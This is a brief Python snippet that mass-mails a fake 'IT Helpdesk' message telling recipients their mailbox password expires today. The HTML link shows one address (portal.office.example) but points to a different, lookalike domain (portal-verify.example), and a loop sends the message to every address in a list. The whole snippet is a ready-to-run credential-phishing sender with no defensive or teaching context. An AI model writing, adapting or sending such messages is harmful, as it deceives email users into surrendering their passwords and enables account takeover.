BODY = """<p>Your mailbox password expires today. To keep your account, verify your password here:
<a href="https://portal-verify.example/login">https://portal.office.example</a></p><p>IT Helpdesk</p>"""
for row in rows:
    send(row["mail"], "Action required", BODY)
